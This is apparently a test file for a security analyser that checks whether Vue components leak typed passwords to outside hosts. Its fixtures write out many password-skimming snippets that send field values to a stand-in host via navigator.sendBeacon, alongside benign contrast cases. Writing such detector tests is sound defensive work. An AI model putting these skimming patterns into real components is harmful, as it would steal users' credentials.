import assert from 'node:assert/strict';
import { analysePackage } from '../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../support/artifacts.js';

const SEND = (what: string): string => `navigator.sendBeacon('https://collect.invalid', ${what})`;
const FIELD = '<input type="password" v-model="password">';

function flowsOf(script: string, template: string, kind = 'setup'): readonly string[] {
  const component = `<template>\n<div>${template}</div>\n</template>\n<script ${kind}>\n${script}\n</script>\n<style>a > b {}</style>`;
  const { flows } = analysePackage(packageOf({ 'Login.vue': component }));
  return [...new Set(flows.map(({ source, sink, host }) => `${source}>${sink}@${host}`))];
}

const TYPED = ['keystrokes>network@collect.invalid'];
const REF = `import { reactive, ref, watch } from 'vue'; const password = ref('');`;

/** What a template gives to a script, which sends it to a host of its own. */
const SENDING: readonly (readonly [what: string, script: string, template: string])[] = [
  ['a function', `${REF} function submit() { ${SEND('password.value')}; }`, FIELD],
  [
    'a watcher',
    `${REF} watch(password, (now) => { ${SEND('now')}; });`,
    '<input v-model.trim="password" autocomplete=cc-csc :name="name">',
  ],
  [
    'an object',
    `${REF} const form = reactive({ secret: '' }); const submit = () => ${SEND('JSON.stringify(form)')};`,
    '<input type="password" v-model="form.secret" />',
  ],
  [
    'an object in a reference',
    `${REF} const form = ref({ secret: '' }); const submit = () => ${SEND('form.value.secret')};`,
    '<input type="password" v-model="form.secret" />',
  ],
  [
    'a model',
    `const model = defineModel(); const submit = () => ${SEND('model.value')};`,
    `<input :type="shown ? 'text' : 'password'" v-model="model" />`,
  ],
  [
    'a part of a composition',
    `import { useForm } from './form'; const { password } = useForm(); const submit = () => ${SEND('password.value')};`,
    FIELD,
  ],
  [
    'a field of another component',
    `${REF} function submit() { ${SEND('password.value')}; }`,
    '<el-input v-model="password" type="password" show-password />',
  ],
  [
    'an element',
    `import { ref } from 'vue'; const field = ref(null); const submit = () => ${SEND('field.value.value')};`,
    '<input type="password" ref="field">',
  ],
  ['a listener', `const heard = (e) => ${SEND('e.target.value')};`, '<input type="password" @input.prevent="heard">'],
  [
    'a listener that calls',
    `const heard = (e) => ${SEND('e.target.value')};`,
    '<input type="password" v-on:keyup="heard($event)">',
  ],
  ['a listener of its own', ';', `<input type="password" @blur="(e) => { ${SEND('e.target.value')} }">`],
  [
    'a listener of the form',
    `const sent = (e) => ${SEND('new FormData(e.target)')};`,
    `<form @submit.prevent="sent"><input type="password" name="x"></form>`,
  ],
];

const OPTIONS: readonly (readonly [what: string, script: string])[] = [
  [
    'a method',
    `export default { data() { return { password: '' }; }, methods: { submit() { ${SEND('this.password')}; } } };`,
  ],
  [
    'a method of a known component',
    `import { defineComponent } from 'vue'; export default defineComponent({ data: () => ({ password: '' }), methods: { submit() { this.$refs.form.validate((valid) => { if (valid) ${SEND('btoa(this.password)')}; }); } } });`,
  ],
  [
    'a watcher',
    `export default { data() { return { password: '' }; }, watch: { password(now) { ${SEND('now')}; } } };`,
  ],
  [
    'a watcher in full',
    `export default { data() { return { password: '' }; }, watch: { password: { handler(now) { ${SEND('now')}; }, deep: true } } };`,
  ],
  [
    'what is computed',
    `export default { data() { return { password: '' }; }, computed: { both() { return this.password + '!'; } }, methods: { submit() { this.$emit('login'); this.send(); }, send() { ${SEND('this.both')}; } } };`,
  ],
  [
    'what comes last',
    `export default { data() { return { password: '' }; }, beforeUnmount() { ${SEND('this.password')}; } };`,
  ],
];

/** What honest components do with it. */
const HONEST: readonly (readonly [what: string, script: string, kind: string])[] = [
  [
    'asks its own server',
    `${REF} const submit = () => fetch('/login', { method: 'POST', body: password.value });`,
    'setup',
  ],
  [
    'tells who uses it',
    `${REF} const emit = defineEmits(['login']); const submit = () => emit('login', password.value); watch(password, (now) => emit('update', now));`,
    'setup',
  ],
  [
    'calls back',
    `${REF} const props = defineProps({ login: Function }); const submit = () => props.login(password.value);`,
    'setup',
  ],
  [
    'asks whoever is told',
    `export default { props: ['url'], data() { return { password: '' }; }, methods: { async submit() { await this.$axios.post(this.url, { password: this.password }); this.$emit('done', this.password); } } };`,
    '',
  ],
  ['tells that somebody has clicked', `${REF} const submit = () => { ${SEND(`'login'`)}; };`, 'setup'],
];

describe('the template of a Vue component', () => {
  for (const [what, script, template] of SENDING)
    it(`gives what is typed to ${what}`, () => {
      assert.deepEqual(flowsOf(script, template), TYPED);
      assert.deepEqual(
        flowsOf(script, template.replaceAll(/type="?password"?|'password'|name="x"|autocomplete=\S+/g, '')),
        [],
      );
    });

  for (const [what, script] of OPTIONS)
    it(`gives what is typed to ${what} among its options`, () => {
      assert.deepEqual(flowsOf(script, FIELD, ''), TYPED);
      assert.deepEqual(flowsOf(script, '<input v-model="password">', ''), []);
    });

  for (const [what, script, kind] of HONEST)
    it(`means nothing in one that ${what}`, () => {
      assert.deepEqual(flowsOf(script, FIELD, kind), []);
    });

  it('is told by the place of the field', () => {
    const component = `<template>\n  <p/>\n  ${FIELD}\n</template>\n<script setup lang="ts">\n${REF}\nconst submit = (it: string): void => {\n  ${SEND('password.value as string')};\n};\n</script>`;
    const [flow] = analysePackage(packageOf({ 'a.vue': component })).flows;
    assert.deepEqual([flow?.from.line, flow?.from.snippet, flow?.to.line], [3, FIELD, 8]);
  });
});
